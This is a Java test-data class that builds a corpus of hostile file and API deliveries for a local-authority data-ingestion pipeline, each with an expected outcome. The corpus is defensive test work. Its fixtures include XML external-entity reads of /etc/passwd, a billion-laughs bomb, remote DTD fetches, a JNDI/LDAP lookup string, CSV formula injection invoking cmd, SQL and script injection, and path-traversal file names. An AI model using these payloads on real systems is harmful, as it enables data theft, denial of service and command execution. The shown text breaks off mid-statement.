package org.pathwayshub.testdata;

import java.io.ByteArrayOutputStream;
import java.io.IOException;
import java.io.UncheckedIOException;
import java.nio.charset.Charset;
import java.nio.charset.StandardCharsets;
import java.nio.file.Files;
import java.nio.file.Path;
import java.time.LocalDate;
import java.util.ArrayList;
import java.util.Arrays;
import java.util.Iterator;
import java.util.List;
import java.util.function.Function;
import java.util.function.Predicate;
import java.util.function.Supplier;

import org.pathwayshub.demo.CohortFiles;
import org.pathwayshub.demo.Pupil;
import org.pathwayshub.demo.SyntheticCohort;

/**
 * Issue 17, drill 5: a corpus of hostile deliveries, every feed format and the referrals API, each with what a data
 * team should see. A case is a file dropped in a feed's inbox (or a referral-steps file), or an HTTP request; its
 * expectation is a run COMPLETED with so many records stored and quarantined under a rule, a run FAILED with a reason
 * that names what is wrong, or an HTTP status with such a reason. Good records travel beside the hostile one, so a case
 * also shows that they are kept.
 *
 * <p>Generated people only (seeds 7301 to 7305): census pupils of LA 893, young people of LA 894 (their
 * YoungPersonsIDs under DatabaseID 894). Each case takes people nobody else in the corpus uses, so a stored count is
 * never a duplicate of another case. {@code long} scale adds large variants (a 50 MB line, a header of a million
 * columns, a 60 MB JSON value, a 51 MB chunked request).
 */
public final class HostileCorpus {

    public static final LocalDate CENSUS_DATE = LocalDate.of(2026, 10, 1);
    public static final String CENSUS_LA = "893";
    public static final String PEOPLE_LA = "894";
    public static final String REFERRALS = "POST /api/referrals";
    public static final String STEPS = "referral-steps";

    public enum Outcome { COMPLETED, FAILED, HTTP, STEPS_DONE, STEPS_FAILED }

    /**
     * @param stored      records stored (for HTTP: the answer's {@code stored}); -1 when not checked
     * @param quarantined records quarantined; -1 when not checked
     * @param rule        a rule at least one reject (or, with {@code warned}, warning) names; null when none is expected
     * @param asWarning   the hostile value is refused with a warning and its record kept
     * @param status      the HTTP status (HTTP cases)
     * @param reasonHas   what the failure reason, the rejects' reasons or the answer must say (case ignored)
     * @param runFile     the name the run records (a name made safe), null for the name dropped
     */
    public record Expect(Outcome outcome, int stored, int quarantined, String rule, boolean asWarning, int status,
                         List<String> reasonHas, String runFile) {

        public Expect as(String safeName) {
            return new Expect(outcome, stored, quarantined, rule, asWarning, status, reasonHas, safeName);
        }

        public Expect warned() {
            return new Expect(outcome, stored, quarantined, rule, true, status, reasonHas, runFile);
        }

        @Override
        public String toString() {
            return switch (outcome) {
                case HTTP -> "HTTP " + status + (stored >= 0 ? ", " + stored + " stored" : "") + (rule == null ? "" : ", rule " + rule);
                case STEPS_DONE, STEPS_FAILED -> outcome + " " + reasonHas;
                default -> outcome + ", " + stored + " stored, " + quarantined + " quarantined"
                        + (rule == null ? "" : (asWarning ? ", warning " : ", rule ") + rule);
            };
        }
    }

    /**
     * @param format      csv, xml, json, rest or steps (for the summary)
     * @param target      a feed id, {@link #STEPS}, or for HTTP the method and path
     * @param fileName    the name dropped (files)
     * @param body        the bytes (a file, or a request body; null for none)
     * @param contentType the request's Content-Type (HTTP; null for none)
     * @param delivery    how the bytes arrive
     * @param before      referrals (JSON bodies) posted before the case (referral steps act on them)
     */
    public record Case(String id, String format, String target, String fileName, Supplier<byte[]> body, String contentType,
                       Delivery delivery, List<String> before, Expect expect) {

        @Override
        public String toString() {
            return id + " -> " + expect;
        }
    }

    public enum Delivery {
        /** written aside and renamed in, as partners should */
        DROPPED,
        /** written in the inbox under its own name a part at a time over some seconds, as a careless copy does */
        WRITTEN_SLOWLY,
        /** an empty file left long enough to count as delivered */
        EMPTY_AGED,
        /** an HTTP request through the client */
        REQUEST,
        /** an HTTP request declaring a body longer than the API takes, over a raw socket */
        DECLARED_OVERSIZE,
        /** an HTTP request sending a body longer than the API takes in chunks, over a raw socket */
        CHUNKED_OVERSIZE
    }

    static Expect completed(int stored, int quarantined, String rule, String... reasonHas) {
        return new Expect(Outcome.COMPLETED, stored, quarantined, rule, false, 0, List.of(reasonHas), null);
    }

    static Expect failed(int stored, int quarantined, String rule, String... reasonHas) {
        return new Expect(Outcome.FAILED, stored, quarantined, rule, false, 0, List.of(reasonHas), null);
    }

    static Expect http(int status, int stored, String rule, String... reasonHas) {
        return new Expect(Outcome.HTTP, stored, -1, rule, false, status, List.of(reasonHas), null);
    }

    private final boolean large;
    private final Iterator<Pupil> pupils;
    private final List<YoungPerson> people;
    private int nextPerson;
    private final List<Case> cases = new ArrayList<>();

    private HostileCorpus(String scale) {
        this.large = "long".equals(scale);
        List<Pupil> census = new ArrayList<>();
        GeneratedPeople.pupils(new SyntheticCohort(1_200, 7301, CENSUS_LA, CENSUS_DATE, List.of("NM1", "NM2"))).forEach(census::add);
        this.pupils = census.iterator();
        SyntheticCohort fourYearsEarlier = new SyntheticCohort(1_200, 7302, PEOPLE_LA,
                YoungPersonCohort.AS_AT.minusYears(4), YoungPersonCohort.POSTCODE_DISTRICTS);
        // numbered apart from every other test's people: referral ids are made from the number
        this.people = YoungPersonCohort.fromPupils(fourYearsEarlier, YoungPersonCohort.AS_AT, PEOPLE_LA, 7302).stream()
                .map(p -> p.withPersonNo(73_020_000 + p.personNo())).toList();
    }

    /** Every case, in the order they are to run (referral steps after the referrals they act on). */
    public static List<Case> cases(String scale) {
        HostileCorpus corpus = new HostileCorpus(scale);
        corpus.census();
        corpus.fileNames();
        corpus.attendance();
        corpus.dwpClaimants();
        corpus.schoolDestinations();
        corpus.referralsCsv();
        corpus.nccisXml();
        corpus.referralsJson();
        corpus.referralsApi();
        corpus.referralSteps();
        return List.copyOf(corpus.cases);
    }

    // ---------------------------------------------------------------- school census (CSV)

    private static final String CENSUS = "school-census";

    private void census() {
        String h = CohortFiles.CENSUS_HEADER;
        csv("census-utf8-bom", CENSUS, concat(bytes(0xEF, 0xBB, 0xBF), crlf(h, rows(3))), completed(3, 0, null));
        csv("census-utf16le-bom", CENSUS, concat(bytes(0xFF, 0xFE), text(StandardCharsets.UTF_16LE, h, rows(3))), completed(3, 0, null));
        csv("census-utf16be-bom", CENSUS, concat(bytes(0xFE, 0xFF), text(StandardCharsets.UTF_16BE, h, rows(3))), completed(3, 0, null));
        csv("census-utf16le-no-bom", CENSUS, text(StandardCharsets.UTF_16LE, h, rows(3)), completed(3, 0, null));
        csv("census-utf16be-no-bom", CENSUS, text(StandardCharsets.UTF_16BE, h, rows(3)), completed(3, 0, null));
        csv("census-two-boms", CENSUS, concat(bytes(0xEF, 0xBB, 0xBF, 0xEF, 0xBB, 0xBF), crlf(h, rows(3))),
                failed(0, 0, null, "UPN"));
        csv("census-latin1-byte-in-utf8", CENSUS, withRow(h, 3, latin1Row()), completed(3, 1, "encoding", "UTF-8"));
        csv("census-invalid-utf8", CENSUS, withRow(h, 3, rowBytes(p -> p.surname() + "\u0001INVALID", "\u0001INVALID", bytes(0xC3, 0x28))),
                completed(3, 1, "encoding", "UTF-8"));
        csv("census-utf8-cut-mid-character", CENSUS, concat(crlf(h, rows(3)), rowBytesRaw(rowCutMidCharacter())),
                completed(3, 1, "encoding", "UTF-8"));
        csv("census-cesu-surrogate", CENSUS, withRow(h, 3, rowBytes(p -> p.surname() + "\u0001S", "\u0001S", bytes(0xED, 0xA0, 0x80))),
                completed(3, 1, "encoding", "UTF-8"));
        csv("census-lf", CENSUS, joined("\n", h, rows(3)), completed(3, 0, null));
        csv("census-cr", CENSUS, joined("\r", h, rows(3)), completed(3, 0, null));
        List<String> mixed = rows(4);
        csv("census-mixed-line-ends", CENSUS, utf8(h + "\r\n" + mixed.get(0) + "\n" + mixed.get(1) + "\r" + mixed.get(2) + "\r\n"
                + mixed.get(3)), completed(4, 0, null));
        csv("census-blank-lines-between", CENSUS, utf8(h + "\r\n\r\n \r\n" + String.join("\r\n,,,,\r\n\r\n", rows(3)) + "\r\n\r\n"),
                completed(3, 0, null));
        List<String> quoted = rows(4);
        quoted.set(2, openQuote(quoted.get(2)));
        csv("census-quote-never-closed", CENSUS, crlf(h, quoted), failed(2, 1, "unterminated-quote", "line 4", "never closed"));
        List<String> lastOpen = rows(3);
        lastOpen.set(2, openQuote(lastOpen.get(2)));
        csv("census-quote-open-at-end", CENSUS, crlf(h, lastOpen), failed(2, 1, "unterminated-quote", "line 4"));
        csv("census-quote-inside-value", CENSUS, withRow(h, 3, censusRow(p -> withSurname(p, "O\"Brien"))), completed(4, 0, null));
        csv("census-ncyear-huge", CENSUS, withRow(h, 3, censusRow(p -> field(p, 8, "99999999999999999999"))),
                completed(4, 0, "nc-year").warned());
        csv("census-dob-1899", CENSUS, withRow(h, 3, censusRow(p -> field(p, 4, "1899-12-31"))), completed(3, 1, "date-range", "1900"));
        csv("census-dob-1900", CENSUS, withRow(h, 3, censusRow(p -> field(p, 4, "1900-01-01"))), completed(4, 0, null));
        csv("census-dob-2100", CENSUS, withRow(h, 3, censusRow(p -> field(p, 4, "2100-01-01"))), completed(3, 1, "dob-future", "past"));
        csv("census-date-2100", CENSUS, withRow(h, 3, censusRow(p -> field(p, 12, "2100-10-01"))),
                completed(3, 1, "census-date-future", "CensusDate"));
        csv("census-date-2101", CENSUS, withRow(h, 3, censusRow(p -> field(p, 12, "2101-10-01"))), completed(3, 1, "date-range", "2100"));
        csv("census-dob-not-a-day", CENSUS, withRow(h, 3, censusRow(p -> field(p, 4, "2011-02-30"))), completed(3, 1, "date-format", "DOB"));
        csv("census-nul-in-value", CENSUS, withRow(h, 3, censusRow(p -> withSurname(p, "Ab\u0000bot"))),
                completed(3, 1, "encoding", "U+0000"));
        List<String> many = rows(150);
        many.add(censusRow(p -> withSurname(p, "Ab\u0000bot")));
        many.addAll(rows(2));
        csv("census-nul-after-first-8k", CENSUS, crlf(h, many), completed(152, 1, "encoding", "U+0000"));
        csv("census-bell-in-value", CENSUS, withRow(h, 3, censusRow(p -> withSurname(p, "Ri\u0007ng"))), completed(3, 1, "encoding", "U+0007"));
        csv("census-escape-sequence", CENSUS, withRow(h, 3, censusRow(p -> withSurname(p, "\u001B[31mRed\u001B[0m"))),
                completed(3, 1, "encoding", "U+001B"));
        csv("census-c1-control", CENSUS, withRow(h, 3, censusRow(p -> withSurname(p, "Next\u0085Line"))),
                completed(3, 1, "encoding", "U+0085"));
        csv("census-bidi-override", CENSUS, withRow(h, 3, censusRow(p -> withSurname(p, "\u202Egnp.exe"))),
                completed(3, 1, "encoding", "U+202E"));
        csv("census-formula-values", CENSUS, crlf(h, List.of(
                censusRow(p -> withSurname(p, "=HYPERLINK(\"http://example.invalid\",\"x\")")),
                censusRow(p -> withSurname(p, "+SUM(A1:A9)")),
                censusRow(p -> withSurname(p, "@SUM(1+1)")),
                censusRow(p -> withSurname(p, "-2+3")))), completed(-1, -1, null));
        csv("census-markup-and-sql", CENSUS, crlf(h, List.of(
                censusRow(p -> withSurname(p, "<script>alert(1)</script>")),
                censusRow(p -> withSurname(p, "Robert'); DROP TABLE person;--")),
                censusRow(p -> withSurname(p, "${jndi:ldap://example.invalid/a}")))), completed(-1, -1, null));
        csv("census-emoji-name", CENSUS, withRow(h, 3, censusRow(p -> withSurname(p, "Smile\uD83D\uDE00"))), completed(-1, -1, null));
        csv("census-tab-and-line-break-in-name", CENSUS, crlf(h, List.of(censusRow(p -> withSurname(p, "Tab\tName")),
                censusRow(p -> withSurname(p, "Line\r\nBreak")))), completed(2, 0, null));
        csv("census-padded-values", CENSUS, crlf(h, rows(3).stream().map(r -> " " + r.replace(",", " , ") + " ").toList()),
                completed(3, 0, null));
        csv("census-name-too-long", CENSUS, withRow(h, 3, censusRow(p -> withSurname(p, "N".repeat(3_000)))),
                completed(3, 1, "too-long", "Surname"));
        csv("census-middle-names-5000", CENSUS, withRow(h, 3, censusRow(p -> field(p, 2, "M".repeat(5_000)))),
                completed(4, 0, "too-long").warned());
        List<String> longValue = rows(4);
        longValue.set(2, field(longValue.get(2), 2, "V".repeat(70_000)));
        csv("census-value-longer-than-a-field", CENSUS, crlf(h, longValue), failed(2, 1, null, "line 4", "65536 characters"));
        csv("census-bad-upn", CENSUS, withRow(h, 3, censusRow(r -> field(r, 0, "Z" + split(r).get(0).substring(1)))),
                completed(3, 1, null, "UPN"));
        csv("census-laestab-formula", CENSUS, withRow(h, 3, censusRow(p -> field(p, 7, "=1+2"))), completed(3, 1, null, "LAEstab"));
        csv("census-header-only", CENSUS, crlf(h, List.of()), completed(0, 0, "no-records").warned());
        csv("census-blank-lines-only", CENSUS, utf8("\r\n\r\n   \r\n,,,\r\n"), failed(0, 0, null, "no rows"));
        cases.add(new Case("census-empty-file", "csv", CENSUS, "census-empty-file.csv", () -> new byte[0], null,
                Delivery.EMPTY_AGED, List.of(), failed(0, 0, null, "empty (0 bytes)")));
        csv("census-header-twice", CENSUS, crlf(h.replace("Gender", "UPN"), rows(3)), failed(0, 0, null, "UPN", "twice"));
        csv("census-no-dob-column", CENSUS, crlf(dropColumn(h, 4), rows(3).stream().map(r -> dropColumn(r, 4)).toList()),
                failed(0, 0, null, "DOB"));
        csv("census-extra-columns", CENSUS, crlf(h + ",Notes,Shoe Size", rows(3).stream().map(r -> r + ",kept out,42").toList()),
                completed(3, 0, null));
        csv("census-row-with-extra-field", CENSUS, withRow(h, 3, censusRow(p -> p) + ",surplus"),
                completed(3, 1, "record-shape", "fields where the header has"));
        csv("census-row-cut-short", CENSUS, withRow(h, 3, dropColumn(dropColumn(censusRow(p -> p), 12), 11)),
                completed(3, 1, "record-shape", "fields where the header has"));
        csv("census-trailing-commas", CENSUS, crlf(h + ",", rows(3).stream().map(r -> r + ",,,").toList()), completed(3, 0, null));
        int columns = large ? 1_000_000 : 20_000;
        csv("census-" + columns + "-extra-columns", CENSUS, wideCensus(columns), completed(3, 0, null));
        csv("census-header-of-junk-columns", CENSUS, junkHeader(large ? 1_000_000 : 50_000), failed(0, 0, null, "header"));
        csv("census-no-header", CENSUS, crlf(rows(1).get(0), rows(3)), failed(0, 0, null, "header"));
        csv("census-semicolons", CENSUS, crlf(h.replace(',', ';'), rows(3).stream().map(r -> r.replace(',', ';')).toList()),
                failed(0, 0, null, "header"));
        csv("census-xlsx", CENSUS, concat(bytes('P', 'K', 3, 4), "[Content_Types].xml".getBytes(StandardCharsets.US_ASCII)),
                failed(0, 0, null, "Excel"));
        csv("census-xls", CENSUS, concat(bytes(0xD0, 0xCF, 0x11, 0xE0, 0xA1, 0xB1, 0x1A, 0xE1), new byte[600]),
                failed(0, 0, null, "Excel 97-2003"));
        csv("census-pdf", CENSUS, utf8("%PDF-1.7\n%\u00e2\u00e3\n1 0 obj\n<<>>\nendobj\n"), failed(0, 0, null, "PDF"));
        csv("census-gzip", CENSUS, concat(bytes(0x1F, 0x8B, 8, 0), new byte[40]), failed(0, 0, null, "gzip"));
        csv("census-random-bytes", CENSUS, randomBytes(4_096, 7303), failed(0, 0, null, "binary"));
        if (large) {
            List<String> huge = rows(3);
            huge.add(1, field(censusRow(p -> p), 2, "W".repeat(50 * 1024 * 1024)));
            csv("census-50mb-line", CENSUS, crlf(h, huge), failed(1, 1, null, "line 3", "65536 characters"));
        }
        cases.add(new Case("census-written-slowly", "csv", CENSUS, "census-written-slowly.csv", constant(crlf(h, rows(40))),
                null, Delivery.WRITTEN_SLOWLY, List.of(), completed(40, 0, null)));
    }

    /** Names a partner's system or a careless copy gives a file: each is made safe and the file read once. */
    private void fileNames() {
        String h = CohortFiles.CENSUS_HEADER;
        String backslashes = "census..\\..\\windows.csv";
        name("name-backslashes", backslashes, crlf(h, rows(2)), completed(2, 0, null).as("census.._.._windows.csv"));
        name("name-dot-dot-encoded", "census..%2F..%2Fetc%2Fpasswd.csv", crlf(h, rows(2)), completed(2, 0, null));
        name("name-newline", "census\nrun 2.csv", crlf(h, rows(2)), completed(2, 0, null).as("census_run 2.csv"));
        name("name-carriage-return-and-tab", "census\r\tcopy.csv", crlf(h, rows(2)), completed(2, 0, null).as("census__copy.csv"));
        name("name-250-characters", "C".repeat(246) + ".csv", crlf(h, rows(2)), completed(2, 0, null).as("~"));
        name("name-250-bytes-of-accents", "\u00e9".repeat(123) + ".csv", crlf(h, rows(2)), completed(2, 0, null).as("~"));
        name("name-camel-expression", "census-${date:now:yyyy}-$simple{sys.user.home}.csv", crlf(h, rows(2)), completed(2, 0, null));
        name("name-unicode", "\u00dcn\u00efc\u00f8d\u00e9 c\u00e9nsus \u2014 2026.csv", crlf(h, rows(2)), completed(2, 0, null));
        name("name-leading-dash", "-rf census.csv", crlf(h, rows(2)), completed(2, 0, null));
        name("name-no-extension", "census", crlf(h, rows(2)), completed(2, 0, null));
        name("name-trailing-space", "census.csv ", crlf(h, rows(2)), completed(2, 0, null));
        name("name-bidi-override", "census\u202Evsc.exe", crlf(h, rows(2)), completed(2, 0, null).as("census_vsc.exe"));
    }

    // ---------------------------------------------------------------- attendance (CSV)

    private static final String ATTENDANCE = "attendance";

    private void attendance() {
        String h = CohortFiles.ATTENDANCE_HEADER;
        csv("attendance-sessions-too-large", ATTENDANCE, withRow(h, 3, attendanceRow("99999999999999999999", "36")),
                completed(-1, -1, "count-format", "SessionsPossible"));
        csv("attendance-sessions-over-a-million", ATTENDANCE, withRow(h, 3, attendanceRow("1000001", "36")),
                completed(-1, -1, "count-range", "SessionsPossible"));
        csv("attendance-negative-sessions", ATTENDANCE, withRow(h, 3, attendanceRow("-38", "36")),
                completed(-1, -1, null, "SessionsPossible"));
        csv("attendance-decimal-sessions", ATTENDANCE, withRow(h, 3, attendanceRow("38.5", "36")),
                completed(-1, -1, "count-format", "whole number"));
        csv("attendance-exponent-sessions", ATTENDANCE, withRow(h, 3, attendanceRow("3.8e1", "36")),
                completed(-1, -1, "count-format", "whole number"));
        csv("attendance-attended-more-than-possible", ATTENDANCE, withRow(h, 3, attendanceRow("38", "40")),
                completed(-1, -1, "sessions-attended", "SessionsAttended"));
        csv("attendance-period-1900", ATTENDANCE, withRow(h, 3, attendancePeriod("1900-01-01", "1900-01-31")), completed(-1, -1, null));
        csv("attendance-period-2100", ATTENDANCE, withRow(h, 3, attendancePeriod("2100-09-01", "2100-09-30")),
                completed(-1, -1, null));
        csv("attendance-period-backwards", ATTENDANCE, withRow(h, 3, attendancePeriod("2026-09-30", "2026-09-01")),
                completed(-1, -1, "period-order", "PeriodEnd"));
        csv("attendance-formula-laestab", ATTENDANCE, withRow(h, 3, attendanceRow("38", "36").replaceFirst(",\\d{7},", ",=SUM(1;2),")),
                completed(-1, -1, null, "LAEstab"));
        csv("attendance-no-sessions-attended-column", ATTENDANCE,
                crlf(dropColumn(h, 5), attendanceRows(3).stream().map(r -> dropColumn(r, 5)).toList()),
                failed(0, 0, null, "SessionsAttended"));
        csv("attendance-utf16be-bom", ATTENDANCE, concat(bytes(0xFE, 0xFF), text(StandardCharsets.UTF_16BE, h, attendanceRows(3))),
                completed(3, 0, null));
        List<String> open = attendanceRows(3);
        open.set(1, openQuote(open.get(1)));
        csv("attendance-quote-never-closed", ATTENDANCE, crlf(h, open), failed(1, 1, "unterminated-quote", "line 3"));
    }

    // ---------------------------------------------------------------- Jobcentre Plus claimants (CSV)

    private static final String DWP = "dwp-claimants";

    private void dwpClaimants() {
        String h = DwpClaimantsFile.HEADER;
        csv("dwp-nino-invalid", DWP, withRows(h, dwp(3), List.of(dwpRow(0, "QQ123456C"))), completed(3, 1, null, "NINO"));
        csv("dwp-consent-maybe", DWP, withRows(h, dwp(3), List.of(dwpRow(9, "maybe"))), completed(3, 1, "boolean-format", "ConsentToShare"));
        csv("dwp-claim-start-2100", DWP, withRows(h, dwp(3), List.of(dwpRow(5, "2100-01-01"))), completed(-1, -1, null));
        csv("dwp-dob-2100", DWP, withRows(h, dwp(3), List.of(dwpRow(3, "2100-01-01"))), completed(3, 1, "dob-future", "DOB"));
        csv("dwp-latin1-name", DWP, concat(crlf(h, dwp(3)), latin1(dwpRow(2, "Mu\u00f1oz") + "\r\n")),
                completed(3, 1, "encoding", "UTF-8"));
        csv("dwp-nino-twice-in-header", DWP, crlf(h.replace("Postcode", "NINO"), dwp(3)), failed(0, 0, null, "NINO", "twice"));
        csv("dwp-formula-work-coach", DWP, withRows(h, dwp(2), List.of(dwpRow(8, "=HYPERLINK(\"http://example.invalid\")"),
                dwpRow(8, "+1-1"))), completed(4, 0, null));
        csv("dwp-cr-line-ends", DWP, joined("\r", h, dwp(3)), completed(3, 0, null));
        csv("dwp-control-in-office", DWP, withRows(h, dwp(3), List.of(dwpRow(7, "Office\u0008\u0008\u0008"))),
                completed(4, 0, "encoding", "U+0008").warned());
    }

    // ---------------------------------------------------------------- school destinations (CSV)

    private static final String DESTINATIONS = "school-destinations";

    private void schoolDestinations() {
        String h = SchoolDestinationsFile.HEADER;
        csv("destinations-ukprn-too-large", DESTINATIONS, withRows(h, destinations(3), List.of(destinationRow(7, "999999999999999999999"))),
                completed(4, 0, null));
        csv("destinations-offer-2100", DESTINATIONS, withRows(h, destinations(3), List.of(destinationRow(8, "2100-06-01"))),
                completed(-1, -1, null));
        csv("destinations-utf16le-no-bom", DESTINATIONS, text(StandardCharsets.UTF_16LE, h, destinations(3)), completed(3, 0, null));
        List<String> open = destinations(3);
        open.set(1, openQuote(open.get(1)));
        csv("destinations-quote-never-closed", DESTINATIONS, crlf(h, open), failed(1, 1, "unterminated-quote", "line 3"));
        csv("destinations-nul-in-upn", DESTINATIONS, withRows(h, destinations(3), List.of(destinationRow(0, "A\u00001234"))),
                completed(3, 1, "encoding", "U+0000"));
    }

    // ---------------------------------------------------------------- referrals as CSV

    private static final String REFERRALS_CSV = "referrals-csv";
    static final String REFERRALS_CSV_HEADER = "ReferralId,FromOrg,FromContact,ToService,UPN,ULN,NINO,GivenName,FamilyName,DOB,"
            + "Postcode,Reason,Type,Needs,ConsentGiven,ConsentDate,ConsentScope,CreatedAt,LawfulBasis";

    private void referralsCsv() {
        String h = REFERRALS_CSV_HEADER;
        csv("referrals-csv-nul-in-reason", REFERRALS_CSV, crlf(h, List.of(referralRow(r -> r), referralRow(r -> r),
                referralRow(r -> reason(r, "Needs\u0000help")))), completed(3, 0, "encoding", "U+0000").warned());
        csv("referrals-csv-unknown-service", REFERRALS_CSV, crlf(h, List.of(referralRow(r -> r), referralRow(r -> r),
                referralRow(r -> toService(r, "../../etc/passwd")))), completed(2, 1, null, "ToService"));
        csv("referrals-csv-dob-2100", REFERRALS_CSV, crlf(h, List.of(referralRow(r -> r), referralRow(r -> dob(r, "2100-02-02")))),
                completed(1, 1, "dob-future", "DOB"));
        csv("referrals-csv-formula-reason", REFERRALS_CSV, crlf(h, List.of(referralRow(r -> reason(r, "=cmd|' /C calc'!A0")),
                referralRow(r -> reason(r, "@SUM(A1)")))), completed(2, 0, null));
        List<String> open = new ArrayList<>(List.of(referralRow(r -> r), referralRow(r -> r), referralRow(r -> r)));
        open.set(1, openQuote(open.get(1)));
        csv("referrals-csv-quote-never-closed", REFERRALS_CSV, crlf(h, open), failed(1, 1, "unterminated-quote", "line 3"));
    }

    // ---------------------------------------------------------------- NCCIS XML

    private static final String NCCIS = "nccis-xml";

    private void nccisXml() {
        String good = nccis(3);
        int root = good.indexOf("<NCCIS>");
        String prolog = good.substring(0, root);
        String body = good.substring(root);
        xml("nccis-billion-laughs", prolog + "<!DOCTYPE NCCIS [\n <!ENTITY lol \"lol\">\n"
                + " <!ENTITY lol2 \"&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;\">\n"
                + " <!ENTITY lol3 \"&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;\">\n"
                + " <!ENTITY lol9 \"&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;\">\n]>\n"
                + body.replaceFirst("<GivenName>[^<]*</GivenName>", "<GivenName>&lol9;</GivenName>"),
                failed(0, 0, null, "entity"));
        xml("nccis-external-entity", prolog + "<!DOCTYPE NCCIS [ <!ENTITY xxe SYSTEM \"file:///etc/passwd\"> ]>\n"
                + body.replaceFirst("<GivenName>[^<]*</GivenName>", "<GivenName>&xxe;</GivenName>"), failed(0, 0, null, "entity"));
        xml("nccis-parameter-entity", prolog + "<!DOCTYPE NCCIS [ <!ENTITY % remote SYSTEM \"http://example.invalid/x.dtd\"> %remote; ]>\n"
                + body, failed(0, 0, null, "entity"));
        xml("nccis-undeclared-entity-in-record", insertInRecord(good, 2, "<GivenName>&hidden;</GivenName>"),
                failed(1, 1, null, "entity"));
        xml("nccis-external-dtd-only", prolog + "<!DOCTYPE NCCIS SYSTEM \"http://example.invalid/NCCIS.dtd\">\n" + body,
                completed(3, 0, null));
        xml("nccis-deep-nesting", insertInRecord(good, 2, "<a>".repeat(large ? 100_000 : 5_000) + "x" + "</a>".repeat(large ? 100_000 : 5_000)),
                failed(1, 1, null, "line"));
        xml("nccis-unclosed-tag", insertInRecord(good, 2, "<GivenName>Unclosed"), failed(1, 1, "malformed-xml", "line"));
        xml("nccis-mismatched-tag", insertInRecord(good, 3, "<GivenName>Wrong</FamilyName>"), failed(2, 1, "malformed-xml", "line"));
        xml("nccis-cut-short", good.substring(0, good.lastIndexOf("<YoungPersonsRecord>") + 200), failed(2, 1, null, "line"));
        xml("nccis-nul-byte", insertInRecord(good, 2, "<Note>a\u0000b</Note>"), failed(1, 1, "malformed-xml", "line"));
        xml("nccis-control-character-reference", insertInRecord(good, 2, "<Note>&#7;</Note>"), failed(1, 1, "malformed-xml", "line"));
        xml("nccis-nul-character-reference", insertInRecord(good, 3, "<Note>&#0;</Note>"), failed(2, 1, "malformed-xml", "line"));
        cases.add(new Case("nccis-latin1-bytes-declared-utf8", "xml", NCCIS, "nccis-latin1-bytes-declared-utf8.xml",
                constant(latin1(insertInRecord(good, 2, "<Note>Mu\u00f1oz</Note>"))), null, Delivery.DROPPED, List.of(),
                failed(1, 1, "malformed-xml", "line")));
        cases.add(new Case("nccis-latin1-declared", "xml", NCCIS, "nccis-latin1-declared.xml",
                constant(latin1(good.replace("encoding=\"UTF-8\"", "encoding=\"ISO-8859-1\"")
                        .replaceFirst("<FamilyName>[^<]*</FamilyName>", "<FamilyName>Mu\u00f1oz</FamilyName>"))), null,
                Delivery.DROPPED, List.of(), completed(3, 0, null)));
        cases.add(new Case("nccis-utf16-bom", "xml", NCCIS, "nccis-utf16-bom.xml",
                constant(concat(bytes(0xFF, 0xFE), good.replace("encoding=\"UTF-8\"", "encoding=\"UTF-16\"")
                        .getBytes(StandardCharsets.UTF_16LE))), null, Delivery.DROPPED, List.of(), completed(3, 0, null)));
        cases.add(new Case("nccis-utf16-no-bom", "xml", NCCIS, "nccis-utf16-no-bom.xml",
                constant(good.replace("encoding=\"UTF-8\"", "encoding=\"UTF-16\"").getBytes(StandardCharsets.UTF_16LE)), null,
                Delivery.DROPPED, List.of(), completed(3, 0, null)));
        xml("nccis-utf8-bom", "\uFEFF" + good, completed(3, 0, null));
        xml("nccis-value-longer-than-a-field", good.replaceFirst("<GivenName>[^<]*</GivenName>",
                "<GivenName>" + "G".repeat(large ? 50 * 1024 * 1024 : 70_000) + "</GivenName>"), failed(0, 1, null, "65536"));
        xml("nccis-name-too-long", good.replaceFirst("<GivenName>[^<]*</GivenName>", "<GivenName>" + "G".repeat(500) + "</GivenName>"),
                completed(3, 0, "too-long").warned());
        xml("nccis-ypid-too-large", good.replaceFirst("<YoungPersonsID>[^<]*</YoungPersonsID>",
                "<YoungPersonsID>999999999999999999999999999999</YoungPersonsID>"), completed(2, 1, null, "YoungPersonsID"));
        xml("nccis-dob-1900", good.replaceFirst("<DOB>[^<]*</DOB>", "<DOB>1900-01-01</DOB>"), completed(-1, -1, null));
        xml("nccis-dob-2100", good.replaceFirst("<DOB>[^<]*</DOB>", "<DOB>2100-01-01</DOB>"), completed(-1, -1, null, "DOB"));
        xml("nccis-formula-names", good.replaceFirst("<FamilyName>[^<]*</FamilyName>", "<FamilyName>=HYPERLINK(\"x\")</FamilyName>"),
                completed(3, 0, null));
        xml("nccis-cdata-comment-pi", good.replaceFirst("<FamilyName>([^<]*)</FamilyName>",
                "<FamilyName><![CDATA[$1]]></FamilyName><!-- a comment --><?pi data?>"), completed(3, 0, null));
        xml("nccis-xinclude", insertInRecord(good, 1, "<xi:include xmlns:xi=\"http://www.w3.org/2001/XInclude\" href=\"file:///etc/passwd\"/>"),
                completed(3, 0, null));
        xml("nccis-many-attributes", insertInRecord(good, 2, "<Note " + attributes(large ? 200_000 : 500) + "/>"),
                large ? failed(1, 1, null, "line") : completed(3, 0, null));
        xml("nccis-not-xml", "{\"NCCIS\": []}\n", failed(0, 0, null, "XML"));
        xml("nccis-declaration-only", "<?xml version=\"1.0\" encoding=\"UTF-8\"?>\n", failed(0, 0, null));
        cases.add(new Case("nccis-empty-file", "xml", NCCIS, "nccis-empty-file.xml", () -> new byte[0], null,
                Delivery.EMPTY_AGED, List.of(), failed(0, 0, null, "empty (0 bytes)")));
        xml("nccis-cr-line-ends", good.replace("\n", "\r"), completed(3, 0, null));
    }

    // ---------------------------------------------------------------- referrals as JSON files

    private static final String REFERRALS_JSON = "referrals";

    private void referralsJson() {
        json("json-dob-a-number", array(referral(r -> r), referral(r -> r), referralJson(r -> r).replaceFirst(
                "\"dob\":\"[^\"]*\"", "\"dob\":20100101")), completed(2, 1, "date-format", "dob"));
        json("json-consent-a-number", array(referral(r -> r), referral(r -> r), referralJson(r -> r).replaceFirst(
                "\"given\":(true|false)", "\"given\":42")), completed(2, 1, "boolean-format", "consent/given"));
        json("json-person-an-array", array(referral(r -> r), referral(r -> r), referralJson(r -> r).replaceFirst(
                "\"person\":\\{[^}]*\\}", "\"person\":[1,2,3]")), completed(2, 1, "required", "person/givenName"));
        json("json-id-an-object", array(referral(r -> r), referral(r -> r), referralJson(r -> r).replaceFirst(
